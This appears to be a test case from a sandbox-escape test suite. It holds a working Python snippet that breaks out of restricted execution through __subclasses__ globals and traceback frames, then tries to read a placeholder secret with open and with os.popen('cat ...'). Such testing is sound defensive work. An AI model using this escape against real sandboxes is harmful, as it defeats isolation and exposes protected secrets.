# tries: escapes from restricted Python through subclasses and tracebacks, and reads a secret
# seen-in: CVE-2025-68668 n8n, CVE-2025-3466 dify-sandbox
# walls: mount, language
# restricted: yes
# expect: ok, runtime_error
found = []
def deep(thing):
    try:
        for kind in thing.__class__.__base__.__subclasses__():
            names = getattr(getattr(kind, "__init__", None), "__globals__", None)
            if names: found.append(names)
    except Exception as error:
        print("refused:", type(error).__name__)
for thing in ((), "", 1):
    try: deep(thing)
    except BaseException as error: print("refused:", type(error).__name__)
try:
    1 / 0
except ZeroDivisionError as error:
    try:
        frame = error.__traceback__.tb_frame
        while frame:
            found.append(frame.f_globals)
            found.append(frame.f_builtins)
            frame = frame.f_back
    except BaseException as error:
        print("refused:", type(error).__name__)
for names in found:
    tools = names.get("__builtins__", names)
    tools = tools if isinstance(tools, dict) else getattr(tools, "__dict__", {})
    for name in ("open", "__import__"):
        if name in tools:
            try:
                if name == "open": print(tools[name]("@SECRET@").read())
                else: print(tools[name]("os").popen("cat @SECRET@").read())
            except BaseException as error: print("failed:", type(error).__name__)
print("attempted")
